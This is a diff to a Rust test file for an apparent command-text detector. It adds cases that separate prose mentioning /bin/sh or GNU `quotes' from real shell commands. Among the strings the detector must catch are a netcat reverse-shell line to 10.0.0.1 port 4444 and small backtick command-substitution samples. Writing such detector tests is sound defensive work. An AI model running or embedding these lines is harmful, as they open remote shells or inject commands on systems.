@@ -679,7 +679,11 @@ fn quoted_names_and_bullets_in_sentences() {
         "- vendor/control-file",
         "- debian/control",
     ] {
-        assert!(lowest_level(b) > 2, "false positive at {}: {b}", lowest_level(b));
+        assert!(
+            lowest_level(b) > 2,
+            "false positive at {}: {b}",
+            lowest_level(b)
+        );
     }
     for a in [
         "\"cscli\" alerts list",
@@ -687,6 +691,28 @@ fn quoted_names_and_bullets_in_sentences() {
         "\"top\" -b -n 1 and then some more words here",
         "ssh-keygen",
         "chef-shell",
+    ] {
+        assert!(lowest_level(a) <= 2, "missed {a}");
+    }
+}
+
+/// A program path as a sentence's last word and GNU `name' quotation in a sentence are prose;
+/// a program path after a command or an option, or with shell syntax, stays caught.
+#[test]
+fn program_named_last_and_gnu_quotes() {
+    for b in [
+        "Port the test scripts to Solaris 10's /bin/sh.",
+        "Port to the old /bin/sh",
+        "* `zless' is now always installed as `zless', not `gzless'.",
+    ] {
+        assert!(lowest_level(b) > 2, "false positive at {}: {b}", lowest_level(b));
+    }
+    for a in [
+        "nc 10.0.0.1 4444 -e /bin/sh",
+        "exec /bin/sh",
+        "x && /bin/sh",
+        "please `id' now",
+        "a `sleep 5` b",
     ] {
         assert!(lowest_level(a) <= 2, "missed {a}");
     }
